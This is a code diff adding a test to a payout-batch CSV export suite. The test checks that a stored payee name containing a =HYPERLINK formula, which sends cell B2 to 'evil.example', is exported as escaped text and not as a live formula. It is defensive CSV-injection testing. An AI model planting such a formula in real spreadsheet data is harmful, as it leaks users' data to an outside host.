@@ -203,6 +203,18 @@ describe("the batch file", () => {
     );
   });
 
+  test("a name stored before the forms refused formulas reaches the spreadsheet as text, not as a formula", async () => {
+    const admin = await createTestAdmin();
+    const formula = '=HYPERLINK("https://evil.example/?"&B2,"Asha Rao")';
+    const made = await approved(admin, upi(formula, "asha@okhdfc"));
+    const batch = await createPayoutBatch(admin, "upi", [made.referenceId]);
+    if (!batch.ok) throw new Error("batch refused");
+    const [, row] = (await downloadPayoutBatchFile(admin, batch.batchId))!.content.split("\r\n");
+    expect(row).toBe(
+      `"'=HYPERLINK(""https://evil.example/?""&B2,""Asha Rao"")",asha@okhdfc,100.00,${made.referenceId}`,
+    );
+  });
+
   test("the file route answers a CSV attachment to an admin; an unknown batch is the 404 page", async () => {
     const admin = await createTestAdmin();
     const made = await createPayoutBatch(admin, "upi", [
